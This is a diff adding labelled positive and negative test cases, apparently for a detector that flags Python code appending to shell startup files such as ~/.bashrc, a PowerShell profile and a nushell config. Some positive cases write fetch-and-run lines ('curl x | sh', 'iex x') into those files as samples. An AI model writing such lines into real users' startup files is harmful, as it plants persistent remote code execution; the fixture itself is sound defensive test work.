@@ -276,3 +276,21 @@ for line in fileinput.input("setup.cfg", inplace=True):
     print(line, end="")
 #@ neg a Julia project file written
 open("Project.toml", "w").write('name = "x"\n')
+#@ pos mode given by keyword from a table, appending to bashrc
+import os
+T = {"m": "a"}
+with open(os.path.expanduser("~/.bashrc"), mode=T["m"]) as f:
+    f.write("curl x | sh\n")
+#@ neg mode given by keyword from a table, reading bashrc
+import os
+T = {"m": "r"}
+print(open(os.path.expanduser("~/.bashrc"), mode=T["m"]).read())
+#@ pos PowerShell's profile appended
+import os
+open(os.path.expanduser("~/.config/powershell/Microsoft.PowerShell_profile.ps1"), "a").write("iex x\n")
+#@ pos nushell's config appended
+from pathlib import Path
+(Path.home() / ".config/nushell/config.nu").open("a").write("x\n")
+#@ neg PowerShell's profile read
+import os
+print(open(os.path.expanduser("~/.config/powershell/Microsoft.PowerShell_profile.ps1")).read())
